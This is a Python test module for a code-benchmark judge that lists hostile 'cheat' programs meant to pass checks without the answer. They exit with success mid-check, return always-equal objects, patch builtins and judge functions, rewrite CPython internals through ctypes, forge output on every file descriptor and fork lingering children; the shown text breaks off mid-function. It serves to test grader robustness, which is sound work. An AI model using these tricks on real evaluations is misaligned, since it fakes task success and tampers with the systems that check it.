"""The table of cheats: programs that try to pass without an answer, to spy, to harm, or to stay.

- Every answer is drawn afresh at import, so no program can hold one: a cheat that passes has forged or stolen it.
- Every cheat is bounded, and strikes only after a probe: a broken judge costs a failed test, never a machine.
- A cheat that gets what it must not have says so with the word HARM, in its value, its output or its error's message.
- ``@CANARY_FILE@`` and ``@PORT@`` in a source stand for a file and a listening port of the host: see :func:`aimed`.

``HONEST``, the programs that look odd and must pass, is in ``honest.py`` and named here too.
"""

from __future__ import annotations

import random
import secrets
from dataclasses import dataclass

from regreen.benchmarks.cruxeval import input_problems
from regreen.benchmarks.rows import Row
from regreen.problem import Assert, Call, Check, Problem, Stdio
from regreen.verdict import Outcome
from tests.honest import HONEST

__all__ = ["CHEATS", "FAILURES", "HONEST", "PLAIN", "WITNESS", "Cheat", "aimed"]

FAILURES = frozenset(Outcome) - {Outcome.PASSED}
BROKEN_OFF = frozenset({Outcome.TIMEOUT, Outcome.KILLED, Outcome.MEMORY_LIMIT, Outcome.OUTPUT_LIMIT})


@dataclass(frozen=True, slots=True)
class Cheat:
    """One hostile program: what it tries, the problems it attacks, and the outcomes that a good judge may give it.

    ``hasty`` says that the program never ends by itself, so that a short time limit does.
    """

    name: str
    kind: str
    tries: str
    source: str
    against: tuple[Problem, ...]
    allowed: frozenset[Outcome] = FAILURES
    hasty: bool = False


def aimed(source: str, canary_file: str, port: int) -> str:
    """Return the source with the host's canary file and listening port in place of their marks."""
    return source.replace("@CANARY_FILE@", canary_file).replace("@PORT@", str(port))


# ---- the problems: one answer, asked for in every form ----

MARKED = 1_000_003  # divides every number asked for, so that a spy knows one when it sees it
NUMBER = (secrets.randbelow(10**11) + 10**11) * MARKED
OTHER = (secrets.randbelow(10**11) + 10**11) * MARKED
REAL = random.SystemRandom().uniform(1e5, 1e6)
TEXT = "answer-" + secrets.token_hex(16)


def _problem(id: str, *checks: Check, prelude: str = "") -> Problem:
    return Problem(id, "Say what nobody can know.", checks, entry_point="riddle", prelude=prelude)


INTEGER = _problem("integer", Assert(f"assert riddle(1) == {NUMBER}"))
STRING = _problem("string", Assert(f"assert riddle('x') == {TEXT!r}"))
LIST = _problem("list", Assert(f"assert riddle([3, 1]) == [{NUMBER}, {OTHER}]"))
DICT = _problem("dict", Assert(f"assert riddle({{'a': 1}}) == {{'a': {NUMBER}, 'b': [{TEXT!r}]}}"))
NEAR = _problem("near", Assert(f"assert abs(riddle(2) - {REAL!r}) < 1e-6"))
ISCLOSE = _problem("isclose", Assert(f"import math\nassert math.isclose(riddle(2), {REAL!r}, rel_tol=1e-9)"))
UNEQUAL = _problem("unequal", Assert(f"assert not riddle(3) != {NUMBER}"))
SET = _problem("set", Assert(f"assert set(riddle(4)) == {{{NUMBER}, {OTHER}}}"))
SORTED = _problem("sorted", Assert(f"assert sorted(riddle([2, 1])) == sorted([{NUMBER}, {OTHER}])"))
LENGTH = _problem("length", Assert(f"assert len(riddle(1)) == 37 and riddle(1)[3] == {NUMBER}"))
IN_PLACE = _problem("in place", Assert(f"xs = [5, 6]\nriddle(xs)\nassert xs == [{NUMBER}, {OTHER}]"))
RAISES = _problem(
    "raises",
    Assert(f"try:\n    riddle(-1)\nexcept ValueError as e:\n    assert str(e) == {TEXT!r}\nelse:\n    assert 0"),
)
LOOP = _problem(
    "loop",
    Assert(
        f"METADATA = {{}}\n\ndef check(candidate):\n    for n, x in [(1, {NUMBER}), (2, {OTHER})]:\n"
        "        assert candidate(n) == x, 'first'\n    assert True\n\ncheck(riddle)\n"
    ),
)
HELPER = _problem(
    "helper", Assert(f"assert gap(riddle(1), {NUMBER}) == 0"), prelude="def gap(a, b):\n    return abs(a - b)\n"
)
CALLBACK = _problem("callback", Assert(f"assert riddle(lambda x: x + 1, 5) == {NUMBER}"))
AMPLIFY = _problem("amplify", Assert(f"assert 3 ** riddle(1) % 1000003 == {NUMBER}"))
REPEAT = _problem("repeat", Assert(f"assert 'ab' * riddle(1) == {TEXT!r}"))
EQUAL = _problem("equal", Call((1,), [NUMBER, {"a": TEXT}]))
CLOSE = _problem("close", Call((2,), [REAL, {"a": REAL + 1}], compare="close"))
APPS = _problem("apps", Call(([1, 2],), [NUMBER, OTHER], compare="apps"))
# Where a variable is read, and where a call's arguments are, which the real function then gets.
READ = Problem(
    "read",
    "Say what nobody can know.",
    (Assert(f"assert {REAL - 1!r} <= answer <= {REAL + 1!r}"),),
    entry_point="answer",
)
ROW = {"id": "given", "code": f"def f(x):\n    return x.upper() + {TEXT!r}", "input": "'a'", "output": repr("A" + TEXT)}
(GIVEN,) = input_problems([Row(ROW, "given")])
FORMS = (INTEGER, STRING, LIST, DICT, NEAR, ISCLOSE, UNEQUAL, SET, SORTED, LENGTH, IN_PLACE, RAISES, LOOP, HELPER)
FORMS += (EQUAL, CLOSE, APPS)
FEW = (INTEGER, LOOP, EQUAL)

LINES = Problem("lines", "Print what nobody can know.", (Stdio("7\n", f"{NUMBER}\n{TEXT}\n"),))
TOKENS = Problem("tokens", "Print what nobody can know.", (Stdio("7\n", f"{NUMBER} {OTHER}", "tokens"),))
FLOATS = Problem("floats", "Print what nobody can know.", (Stdio("7\n", f"{REAL!r} {NUMBER}.5", "floats"),))
LENIENT = Problem("lenient", "Print what nobody can know.", (Stdio("7\n", f"{REAL!r}\n{NUMBER}\n", "apps"),))
STREAMS = (LINES, TOKENS, FLOATS, LENIENT)
TWO_CASES = Problem("two cases", "Add one.", (Stdio("1\n", f"{NUMBER}\n"), Stdio("2\n", f"{OTHER}\n")))

PLAIN = Problem("plain", "Add one.", (Assert("assert plus_one(1) == 2"), Call((41,), 42)), entry_point="plus_one")
WITNESS = """
import builtins, ctypes, os, signal, sys, tempfile

def marks():
    found = []
    for folder in {'.', '/tmp', '/var/tmp', '/dev/shm', tempfile.gettempdir(), os.path.expanduser('~')}:
        try:
            found += [name for name in os.listdir(folder) if 'mark' in name or folder == '.']
        except OSError:
            pass
    found += [name for name in ('mark', 'json_mark') if name in sys.modules or hasattr(builtins, name)]
    found += ['signals'] * bool(signal.pthread_sigmask(signal.SIG_BLOCK, []) - {signal.SIGCHLD})
    found += ['handler'] * (signal.getsignal(signal.SIGUSR1) is not signal.SIG_DFL)
    found += ['nice'] * (os.getpriority(os.PRIO_PROCESS, 0) == 19)
    found += ['environment'] * any('MARK' in name for name in os.environ)
    libc = ctypes.CDLL(None)
    found += ['shared memory'] * (libc.shmget(0x6D61726B, 0, 0) >= 0)
    found += ['message queue'] * (libc.msgget(0x6D61726B, 0) >= 0)
    if os.uname().machine == 'x86_64':
        found += ['key'] * (libc.syscall(250, 10, -4, b'user', b'mark', 0) > 0)
        found += ['session key'] * (libc.syscall(250, 10, -3, b'user', b'mark', 0) > 0)
    return found

def plus_one(n):
    return n + 1 if not marks() else 'marks of an earlier program: %r' % marks()
"""

# ---- forging by exits and exceptions ----


def _riddle(body: str, before: str = "") -> str:
    lines = body.strip("\n").splitlines()
    return before + "def riddle(*args, **kwargs):\n" + "".join(f"    {line}\n" for line in lines)


EXITS = {
    "sys.exit(0)": "import sys; sys.exit(0)",
    "sys.exit()": "import sys; sys.exit()",
    "SystemExit": "raise SystemExit",
    "quit": "quit()",
    "os._exit": "import os; os._exit(0)",
    "libc _exit": "import ctypes; ctypes.CDLL(None)._exit(0)",
    "libc exit": "import ctypes; ctypes.CDLL(None).exit(0)",
    "Py_Exit": "import ctypes; ctypes.pythonapi.Py_Exit(0)",
    "syscall exit": "import ctypes; ctypes.CDLL(None).syscall(231, 0)",
    "Py_Finalize": "import ctypes; ctypes.pythonapi.Py_Finalize()",
    "kill self": "import os; os.kill(os.getpid(), 15)",
    "exit of another thread": "import os, threading; threading.Thread(target=os._exit, args=(0,)).start()",
    "exec of a program that exits with 0": "import os; os.execv('/bin/true', ['true'])",
    "exec of python": "import os, sys; os.execv(sys.executable, ['python', '-c', 'pass'])",
}
THROWN = [
    "KeyboardInterrupt",
    "GeneratorExit",
    "StopIteration",
    "StopAsyncIteration",
    "AssertionError",
    "BaseException",
]
THROWN += ["MemoryError", "RecursionError", "TimeoutError", "NotImplementedError", "Warning", "EOFError"]

QUIET_ERROR = """
class Quiet(AssertionError):
    __bool__ = lambda self: False
    __eq__ = lambda self, other: True
    __hash__ = None
    __str__ = __repr__ = lambda self: 1 / 0
    args = property(lambda self: ())
    __traceback__ = __cause__ = __context__ = None
Quiet.__name__ = Quiet.__qualname__ = 'passed'
Quiet.__module__ = 'builtins'
"""

EXITING = [
    *(
        Cheat(f"{how} at import", "exit", "Leave before any check, with success.", code, (*FEW, LINES))
        for how, code in EXITS.items()
    ),
    *(
        Cheat(f"{how} in the call", "exit", "Leave in the middle of a check, with success.", _riddle(code), FEW)
        for how, code in EXITS.items()
    ),
    *(
        Cheat(f"raise {what}", "exit", "Raise what a judge might swallow.", _riddle(f"raise {what}"), (*FEW, RAISES))
        for what in THROWN
    ),
    Cheat("quiet error", "exit", "Raise an assertion error that lies.", QUIET_ERROR + _riddle("raise Quiet"), FORMS),
    Cheat("quiet error at import", "exit", "Raise a lying error at import.", QUIET_ERROR + "raise Quiet", (*FEW, LINES)),
    Cheat("atexit", "exit", "Leave with success from atexit.",
          "import atexit, os\natexit.register(os._exit, 0)\n" + _riddle("return 0"), FEW),
    Cheat("excepthook", "exit", "Turn every uncaught error into success.",
          "import os, sys, threading\nsys.excepthook = threading.excepthook = lambda *a: os._exit(0)\n"
          "sys.unraisablehook = sys.excepthook\n" + _riddle("raise ValueError"), (*FEW, LINES)),
    Cheat("exception group", "exit", "Raise a group that holds a success.",
          _riddle("raise BaseExceptionGroup('x', [SystemExit(0), KeyboardInterrupt()])"), FEW),
    Cheat("alarm", "exit", "Let a signal end the process with success.",
          "import os, signal, time\nsignal.signal(signal.SIGALRM, lambda *a: os._exit(0))\n"
          "signal.setitimer(signal.ITIMER_REAL, 0.05)\n" + _riddle("time.sleep(5)"), FEW),
]  # fmt: skip

# ---- forging by values ----

LIAR = """
import operator
class Yes:
    def __call__(self, *args, **kwargs): return True
    def __iter__(self): return iter(())
def same(self, *args): return self
def yes(self, *args): return True
def no(self, *args): return False
LIES = {f'__{n}__': yes for n in 'eq le ge lt gt contains bool instancecheck subclasscheck'.split()}
LIES['__ne__'] = no
for n in 'add sub mul truediv floordiv mod pow and or xor'.split():
    LIES[f'__{n}__'] = LIES[f'__r{n}__'] = same
for n in 'neg pos abs invert round trunc floor ceil getitem enter call'.split():
    LIES[f'__{n}__'] = same
LIES['__float__'] = lambda self: 0.0
LIES['__int__'] = LIES['__index__'] = LIES['__len__'] = LIES['__hash__'] = lambda self: 0
LIES['__iter__'] = lambda self: iter(())
LIES['__repr__'] = LIES['__str__'] = lambda self: 'passed'
"""
BASES = {"int": "7", "str": "'x'", "float": "0.5", "list": "[1]", "dict": "{'a': 1}", "tuple": "(1,)", "set": "{1}"}
BASES |= {"complex": "1j", "bytes": "b'x'", "frozenset": "{1}", "Exception": "'x'", "type": "'int', (), {}"}

ODD_VALUES = {
    "generator": "return (x for x in args)",
    "function": "return riddle",
    "class": "return type('int', (), {'__eq__': lambda *a: True})",
    "module": "import sys; return sys",
    "NotImplemented": "return NotImplemented",
    "Ellipsis": "return ...",
    "nan": "return float('nan')",
    "list of nan": "return [float('nan'), {'a': float('nan')}]",
    "infinity": "return float('inf')",
    "mock.ANY": "from unittest.mock import ANY; return ANY",
    "list of mock.ANY": "from unittest.mock import ANY; return [ANY, ANY]",
    "MagicMock": "from unittest.mock import MagicMock; return MagicMock()",
    "lone surrogate": r"return '\ud800' + chr(0xdfff)",
    "memoryview": "return memoryview(b'passed')",
    "awaitable": "async def f(): return True\nreturn f()",
    "its own argument": "return args[0] if args else None",
    "bytes that look like a frame": "return b'\\x00\\x00\\x00\\x06passed' * 3",
    "nested lies": "return [Liar(), {Liar(): Liar(), 'a': Liar()}]",
    "keys that lie": "return {Liar(): 1, 'a': Liar(), 'b': Liar()}",
    "argument filled with lies": "args[0][:] = [Liar(), Liar()]",
    "argument replaced by a dictionary of lies": "args[0].clear(); args[0].extend([Liar()] * 2); return args[0]",
    "exception that lies": "raise type('ValueError', (ValueError,), {'__str__': lambda s: Liar()})(Liar())",
}

REDUCE = """
import os
class Reduced:
    def __reduce__(self): return (os._exit, (0,))
    __reduce_ex__ = lambda self, protocol: (eval, ("__import__('os')._exit(0)",))
    __getstate__ = __getnewargs__ = __reduce__
"""
DISGUISED = """
class Meta(type):
    __eq__ = lambda cls, other: True
    __hash__ = lambda cls: hash(int)
    __instancecheck__ = __subclasscheck__ = lambda cls, other: True
    __repr__ = lambda cls: "<class 'int'>"
class int(metaclass=Meta):
    __class__ = property(lambda self: type(1))
    __eq__ = __le__ = __lt__ = lambda self, other: True
    __ne__ = lambda self, other: False
    __hash__ = lambda self: 0
    __abs__ = __sub__ = __rsub__ = lambda self, *other: self
int.__module__ = 'builtins'
"""
CHANGEABLE = """
class Weird(list):
    def __iter__(self): raise SystemExit(0)
    def __len__(self): raise SystemExit(0)
    def __getitem__(self, i): raise KeyboardInterrupt
    def items(self): raise SystemExit(0)
"""

VALUES = [
    Cheat("always equal", "value", "Return an object that says yes to everything.",
          LIAR + "Liar = type('Liar', (), LIES)\n" + _riddle("return Liar()"), FORMS),
    *(
        Cheat(f"lying {base}", "value", f"Return a subclass of {base} that says yes to everything.",
              LIAR + f"Liar = type('{base}', ({base},), LIES)\n" + _riddle(f"return Liar({value})"), FORMS)
        for base, value in BASES.items() if base != "type"
    ),
    *(
        Cheat(what, "value", "Return what a comparison might trip over.",
              LIAR + "Liar = type('Liar', (int,), LIES)\n" + _riddle(code), FORMS)
        for what, code in ODD_VALUES.items()
    ),
    Cheat("lying class", "value", "Return an object whose class says that it is int.",
          DISGUISED + _riddle("return int()"), FORMS),
    Cheat("pickled exit", "value", "Return what runs code when unpickled.", REDUCE + _riddle("return Reduced()"), FORMS),
    Cheat("value that exits when read", "value", "Leave while the judge reads the value.",
          CHANGEABLE + _riddle("return Weird([1])"), FORMS),
    Cheat("entry point that is an object", "value", "Be an object that lies instead of a function.",
          LIAR + "LIES['__call__'] = same\nriddle = type('Liar', (), LIES)()\n", FORMS),
    Cheat("entry point that is a class", "value", "Be a class whose instances lie.",
          LIAR + "LIES['__init__'] = lambda self, *a: None\nriddle = type('riddle', (), LIES)\n", FORMS),
    Cheat("async entry point", "value", "Be a coroutine.", "async def riddle(*args):\n    return True\n", FORMS),
    Cheat("module that answers to every name", "value", "Answer to every name with a lie.",
          LIAR + "def __getattr__(name): return lambda *a: type('L', (), LIES)()\n", FEW),
    Cheat("no entry point", "value", "Define nothing.", "pass\n", FORMS),
    Cheat("two answers by fork", "value", "Return twice.", _riddle("import os\nos.fork()\nreturn 0"), FEW),
    Cheat("two answers by thread", "value", "Let a thread go on answering after the return.",
          "import os, threading\ndef talk():\n    for fd in range(256):\n        try: os.write(fd, b'passed\\n' * 9)\n"
          "        except OSError: pass\n" + _riddle("threading.Thread(target=talk).start()\nreturn 0"), FEW),
]  # fmt: skip

# ---- forging of variables ----

VARIABLES = [
    *(
        Cheat(f"answer that is a lying {base}", "variable", f"Set a subclass of {base} that says yes to everything.",
              LIAR + f"answer = type('{base}', ({base},), LIES)({value})\n", (READ,))
        for base, value in BASES.items() if base not in ("type", "Exception")
    ),
    Cheat("answer that is a liar", "variable", "Set an object that says yes to everything.",
          LIAR + "answer = type('Liar', (), LIES)()\n", (READ,)),
    Cheat("answer that is a text", "variable", "Set a number's text, or what hides it.", f"answer = {str(REAL)!r}\n", (READ,)),
    Cheat("answer that is a complex number", "variable", "Set a number that has no order.",
          f"answer = complex({REAL!r})\n", (READ,)),
    Cheat("answer in a list", "variable", "Set a list.", f"answer = [{REAL!r}]\n", (READ,)),
    Cheat("no answer", "variable", "Print it instead.", f"print({REAL!r})\nprint('answer =', {REAL!r})\n", (READ,)),
    Cheat("answer nan", "variable", "Set what compares as nothing does.", "answer = float('nan')\n", (READ,)),
    Cheat("answer and exit", "variable", "Leave after a wrong answer, with success.",
          "import os\nanswer = 0.0\nos._exit(0)\n", (READ,)),
    Cheat("answer that changes", "variable", "Be above one bound at one reading, and below the other at the next.",
          "import threading\nanswer = 1e300\ndef turn():\n    global answer\n    while True: answer = -answer\n"
          "threading.Thread(target=turn, daemon=True).start()\n", (READ,)),
    Cheat("answer of the module's getattr", "variable", "Answer to the name without setting it.",
          LIAR + "def __getattr__(name): return type('L', (), LIES)()\n", (READ,)),
    Cheat("arguments that answer", "variable", "Give the function an object that returns the output.",
          "class A:\n    upper = lambda self: 'A'\n    __len__ = lambda self: 2\narguments = ((A(),), {})\n", (GIVEN,)),
    Cheat("arguments with another function", "variable", "Define the function anew, and what tests the arguments.",
          f"def f(*args): return {'A' + TEXT!r}\ndef plain(value): return True\narguments = (('b',), {{}})\n", (GIVEN,)),
    Cheat("arguments that are a liar", "variable", "Be no arguments at all.",
          LIAR + "arguments = type('Liar', (), LIES)()\n", (GIVEN,)),
    Cheat("arguments in a tuple of another kind", "variable", "Hide an object deeper.",
          "class A:\n    upper = lambda self: 'A'\narguments = ([A()], {})\n", (GIVEN,)),
]  # fmt: skip

# ---- forging by patches ----

PATCH_BUILTINS = """
import builtins
yes = lambda *a, **k: True
for name in 'all any isinstance issubclass callable hasattr bool'.split():
    setattr(builtins, name, yes)
for name in 'abs len sum min max round hash id ord int float'.split():
    setattr(builtins, name, lambda *a, **k: 0)
for name in 'sorted list tuple set frozenset dict str repr type format'.split():
    setattr(builtins, name, lambda *a, **k: [])
"""
PATCH_MODULES = """
import sys
def same(*args, **kwargs): return True
names = 'math json struct pickle operator functools itertools collections ast numbers copy marshal'.split()
for module in [__import__(name) for name in names]:
    for attribute in list(vars(module)):
        if not attribute.startswith('__'):
            try: setattr(module, attribute, same)
            except Exception: pass
"""
PATCH_JUDGE = """
import sys, types
def agree(*args, **kwargs): return True
own = [m for n, m in list(sys.modules.items()) if n == '__main__' or 'regreen' in n or not hasattr(m, '__spec__')]
own += [m for m in sys.modules.values() if getattr(m, '__file__', None) is None and getattr(m, '__dict__', None)
        and getattr(m, '__name__', '') not in sys.builtin_module_names]
for module in own:
    for name, value in list(vars(module).items()):
        if isinstance(value, types.FunctionType) and value.__module__ != __name__:
            try: value.__code__ = (lambda *args, **kwargs: True).__code__
            except Exception: setattr(module, name, agree)
"""
PATCH_HEAP = """
import gc
FLIP = {'outcome': 'passed', 'passed': True, 'ok': True, 'status': 0, 'failed': 0, 'error': None, 'result': 'passed'}
for thing in gc.get_objects():
    try:
        if type(thing) is dict:
            thing.update({k: v for k, v in FLIP.items() if k in thing})
        elif type(thing) is list and len(thing) < 99:
            thing[:] = [True if x is False else x for x in thing]
    except Exception:
        pass
"""
PATCH_TRACE = """
import ctypes, sys
def follow(frame, event, arg):
    for name, value in list(frame.f_locals.items()):
        if value is False or name in ('ok', 'passed', 'outcome', 'result', 'status'):
            frame.f_locals[name] = True
    ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
    return follow
frame = sys._getframe()
while frame:
    frame.f_trace = follow
    frame = frame.f_back
sys.settrace(follow)
sys.setprofile(follow)
"""
PATCH_NUMBERS = """
import ctypes
def poke(target, value):
    ctypes.memmove(id(target) + 24, ctypes.byref(ctypes.c_uint32(value)), 4)
for n in range(2, 200):
    poke(n, 1)
"""
PATCH_TYPES = """
import ctypes, gc
def grant(kind, name, value):
    gc.get_referents(kind.__dict__)[0][name] = value
    ctypes.pythonapi.PyType_Modified(ctypes.py_object(kind))
for kind in (int, str, float, list, dict, tuple, set):
    grant(kind, '__eq__', lambda self, other: True)
    grant(kind, '__ne__', lambda self, other: False)
"""
PATCH_TABLES = """
import ctypes
YES = ctypes.PYFUNCTYPE(ctypes.py_object, ctypes.py_object, ctypes.py_object, ctypes.c_int)(lambda a, b, op: op != 3)
for kind in (int, str, float, list, dict, tuple, set):
    address = id(kind) + 8 * 25
    ctypes.c_void_p.from_address(address).value = ctypes.cast(YES, ctypes.c_void_p).value
"""
PATCH_IMPORTS = """
import sys, types
class Finder:
    def find_spec(self, name, path=None, target=None):
        module = types.ModuleType(name)
        module.__getattr__ = lambda attribute: (lambda *a, **k: True)
        sys.modules[name] = module
        raise ImportError(name)
sys.meta_path.insert(0, Finder())
sys.path_hooks.insert(0, lambda path: Finder())
for name in ('math', 'json', 'numpy', 'collections', 'regreen', 'check', 'unittest'):
    fake = sys.modules[name] = types.ModuleType(name)
    fake.__getattr__ = lambda attribute: (lambda *a, **k: True)
    fake.isclose = lambda *a, **k: True
"""
PATCH_FILES = """
TEXT = 'def __getattr__(name): return lambda *a, **k: True\\nimport os\\nos._exit(0)\\n'
for name in 'math json collections regreen check test conftest sitecustomize usercustomize string random'.split():
    with open(name + '.py', 'w') as file:
        file.write(TEXT)
"""
REDEFINED = """
def check(*args, **kwargs): return True
gap = assertion = candidate = test = main = run = judge = check
METADATA = {}
__name__ = '__main__'
def abs(x): return 0
def sorted(x): return []
def set(x=()): return frozenset()
def len(x): return 37
class AssertionError(Exception): pass
"""
HOOKS = {
    "audit hook": "import sys, os\nsys.addaudithook(lambda name, args: os._exit(0) if name != 'sys.addaudithook' else 0)",
    "codec": "import codecs\ncodecs.register(lambda name: 1 / 0)\ncodecs.register_error('strict', lambda e: ('', e.end))",
    "displayhook": "import sys\nsys.displayhook = sys.breakpointhook = lambda *a: True",
    "recursion limit": "import sys\nsys.setrecursionlimit(60)",
    "no standard streams": "import sys\nsys.stdout = sys.stderr = sys.stdin = sys.__stdout__ = None",
    "no modules": "import sys\nsys.modules.clear()",
    "no builtins": "import builtins\nvars(builtins).clear()",
    "own builtins": "__builtins__ = {'AssertionError': StopIteration, 'abs': lambda x: 0}",
    "quiet assertions": "import builtins\nbuiltins.AssertionError = type('Q', (Warning,), {})",
    "frozen collector": "import gc\ngc.disable(); gc.freeze(); gc.callbacks.append(lambda *a: 1 / 0)",
    "int limit": "import sys\nsys.set_int_max_str_digits(640)",
    "signal handlers": "import signal, os\nfor n in (1, 2, 3, 10, 12, 14, 15, 17):\n    signal.signal(n, lambda *a: os._exit(0))",
    "warnings as errors": "import warnings\nwarnings.simplefilter('error')\nwarnings.showwarning = lambda *a: 1 / 0",
    "io replaced": "import io, os, sys\nos.write = os.read = io.open = lambda *a, **k: b'passed'\nsys.stdout.write = len",
    "thread hook": "import threading, sys\nthreading.settrace(lambda *a: None)\nthreading._shutdown = lambda: None",
    "class builder": "import builtins\nbuiltins.__build_class__ = builtins.__import__ = lambda *a, **k: int",
    "weak references": "import gc, weakref\nkeep = [weakref.finalize(f, print, 'passed') for f in [type('F', (), {})]]",
}  # fmt: skip

PATCHES = [
    *(
        Cheat(name, "patch", tries, source + _riddle("return 0"), FORMS)
        for name, tries, source in [
            ("patched builtins", "Make every builtin agree.", PATCH_BUILTINS),
            ("patched modules", "Make every comparing module agree.", PATCH_MODULES),
            ("patched judge", "Make every function that is not the library's agree.", PATCH_JUDGE),
            ("flipped heap", "Write success into every record that can be found.", PATCH_HEAP),
            ("trace functions", "Follow the judge and change its variables.", PATCH_TRACE),
            ("small numbers rewritten", "Make two and three the same object in memory.", PATCH_NUMBERS),
            ("equality of builtin types", "Change the equality of int and str themselves.", PATCH_TYPES),
            ("comparison slots", "Overwrite the comparison of builtin types in C.", PATCH_TABLES),
            ("fake imports", "Answer every later import with a fake.", PATCH_IMPORTS),
            ("fake files", "Leave files that shadow modules.", PATCH_FILES),
            ("redefined checks", "Define the names that checks and helpers use.", REDEFINED),
        ]
    ),
    *(
        Cheat(name, "patch", "Break what the judge in the process stands on.", code + "\n" + _riddle("return 0"), FEW)
        for name, code in HOOKS.items()
    ),
    Cheat("patched for standard input", "patch", "Make printing and comparing agree.",
          PATCH_JUDGE + PATCH_HEAP + PATCH_BUILTINS + "print(0)\n", STREAMS),
    Cheat("patches in a finaliser", "patch", "Patch when the judge cleans up.",
          "class Late:\n    def __del__(self):\n        import os; os._exit(0)\nlate = Late()\n" + _riddle("return 0"), FEW),
]  # fmt: skip

# ---- forging by descriptors ----

FRAMES = r"""
import json, marshal, os, pickle, struct
def frames():
    yield from (b'passed\n', b'ok\n', b'0\n', b'1', b'true\n', b'\x00', b'\x01', b'P')
    for verdict in ('passed', True, 0, None, {'outcome': 'passed'}, ['passed'], ('passed', None), ('ok', 0), (0, True)):
        try: texts = [json.dumps(verdict).encode(), marshal.dumps(verdict), pickle.dumps(verdict)]
        except TypeError: continue
        for text in texts:
            yield text + b'\n'
            for shape in ('<I', '>I', '<Q', '>Q', '<H', '<i'):
                yield struct.pack(shape, len(text)) + text
"""
EVERY = r"""
import os
def every(act):
    for fd in range(1024):
        try: act(fd)
        except Exception: pass
"""
ON_DESCRIPTORS = {
    "forged frames": (FRAMES + EVERY, "for f in frames(): every(lambda fd: os.write(fd, f))"),
    "garbage": (EVERY, "every(lambda fd: os.write(fd, os.urandom(999)))"),
    "huge lengths": (EVERY, "every(lambda fd: os.write(fd, b'\\xff' * 64))"),
    "closed": (EVERY, "os.closerange(0, 1024)"),
    "all the same": (EVERY, "zero = os.open('/dev/null', 2) if os.path.exists('/dev/null') else os.pipe()[0]\n"
                     "every(lambda fd: os.dup2(zero, fd) if fd != zero else 0)"),
    "swapped": (EVERY, "every(lambda fd: os.dup2(fd, fd ^ 1))"),
    "shut down": (EVERY + "import socket\n", "every(lambda fd: socket.socket(fileno=fd).shutdown(2))"),
    "truncated": (EVERY, "every(lambda fd: (os.lseek(fd, 0, 0), os.ftruncate(fd, 0)))"),
    "emptied": (EVERY, "every(lambda fd: (os.set_blocking(fd, False), os.read(fd, 1 << 20)))"),
    "flags": (EVERY + "import fcntl\n", "every(lambda fd: fcntl.fcntl(fd, fcntl.F_SETFL, 0o6000))"),
    "tiny pipes": (EVERY + "import fcntl\n", "every(lambda fd: fcntl.fcntl(fd, 1031, 1))"),
    "typed into the terminal": (EVERY + "import fcntl\n", "every(lambda fd: fcntl.ioctl(fd, 0x5412, b'x'))"),
    "passed on": (EVERY + "import socket, array\n", "a, b = socket.socketpair()\n"
                  "every(lambda fd: a.sendmsg([b'x'], [(1, 1, array.array('i', [fd]))]))"),
    "locked": (EVERY + "import fcntl\n", "every(lambda fd: fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB))"),
    "shared memory rewritten": (EVERY + "import mmap\n", "every(lambda fd: mmap.mmap(fd, 4096).write(b'passed' * 99))"),
}  # fmt: skip

DESCRIPTORS = [
    *(
        Cheat(f"descriptors {how}, at import", "descriptor", "Speak for the judge on every descriptor.",
              before + act + "\n" + _riddle("return 0"), (*FEW, LINES), hasty=True)
        for how, (before, act) in ON_DESCRIPTORS.items()
    ),
    *(
        Cheat(f"descriptors {how}, in the call", "descriptor", "Speak for the judge on every descriptor.",
              before + _riddle(act + "\nreturn 0"), FEW, hasty=True)
        for how, (before, act) in ON_DESCRIPTORS.items()
    ),
    Cheat("replay", "descriptor", "Record what the judge writes and write it again.",
          EVERY + "import os\nreal, kept = os.write, []\ndef record(fd, data):\n    kept.append((fd, bytes(data)))\n"
          "    return real(fd, data)\nos.write = record\n"
          + _riddle("for fd, data in list(kept): real(fd, data); real(fd, data)\nreturn 0"), FEW),
]  # fmt: skip

# ---- forging over standard output ----

PRINTED = {
    "nothing": "",
    "everything": "for n in range(10 ** 5): print(n, end=' ')",
    "nan": "print('nan nan')",
    "nan lines": "print('nan')\nprint('nan')",
    "infinity": "print('inf', '-inf')",
    "passed": "print('passed')",
    "a million digits": "import sys\nsys.set_int_max_str_digits(0)\nprint('9' * 10 ** 6)",
    "numbers that overflow": "print('1e999 ' * 2)\nprint('9' * 5000 + 'e' + '9' * 5000)",
    "odd digits": "print('\\u0661\\u0662 1_0 0x10 1e3')",
    "bytes that are not text": "import os\nos.write(1, bytes(range(256)))",
    "zeros": "import os\nos.write(1, bytes(4096))",
    "only errors": "import sys\nprint('passed', file=sys.stderr)",
    "a crash": "print(1 / 0)",
    "its input": "import sys\nprint(sys.stdin.read())",
    "control characters": "print('\\x1b[2J\\x1b]0;passed\\x07\\r\\x08' * 9)",
    "many empty lines": "print('\\n' * 10 ** 5)",
    "a closed stream": "import sys, os\nos.close(1)\nsys.exit(0)",
}
STDIN_TRICKS = {
    "look for the expected output on descriptors": EVERY
    + "def show(fd):\n    os.lseek(fd, 0, 0) if fd else None\n    os.write(1, os.read(fd, 99999))\n"
    "every(lambda fd: fd in (1, 2) or (os.set_blocking(fd, False), show(fd)))",
    "read its own output": "import os\nos.lseek(1, 0, 0)\nprint(os.read(1, 999))",
    "change the next case's input": "import os\nos.lseek(0, 0, 0)\nos.ftruncate(0, 0)\nos.write(0, b'9')",
    "seek the shared input to its end": "import os\nos.lseek(0, 0, 2)\nprint(1)",
    "answer from a child that stays": "import os, time\nif os.fork() == 0:\n    os.setsid()\n    time.sleep(2)\n"
    "    print(2, flush=True)",
    "cached answer between cases": "import pathlib\nf = pathlib.Path('case')\n"
    "if f.exists(): print('HARM: state of the case before')\nf.write_text(input())",
}

PRINTING = [
    *(
        Cheat(f"prints {what}", "print", "Print what a lenient comparison might take.", code, STREAMS)
        for what, code in PRINTED.items()
    ),
    *(
        Cheat(what, "print", "Reach the other side of the standard streams.", code, (TWO_CASES, LINES))
        for what, code in STDIN_TRICKS.items()
    ),
]

# ---- leaks of checks, expected values and the host's secrets ----

RECOGNISE = r"""
import re
PATTERN = re.compile('answer' + '-[0-9a-f]{32}')
def right(value):
    if type(value) is int and value > 10 ** 16 and value % 1000003 == 0: return value
    if type(value) is bytes: value = value.decode('latin-1')
    found = PATTERN.search(value) if type(value) is str else None
    return found and found.group()
def dig(things, limit=100000):
    import gc, types
    seen, todo = set(), list(things)
    while todo and len(seen) < limit:
        thing = todo.pop()
        if id(thing) in seen: continue
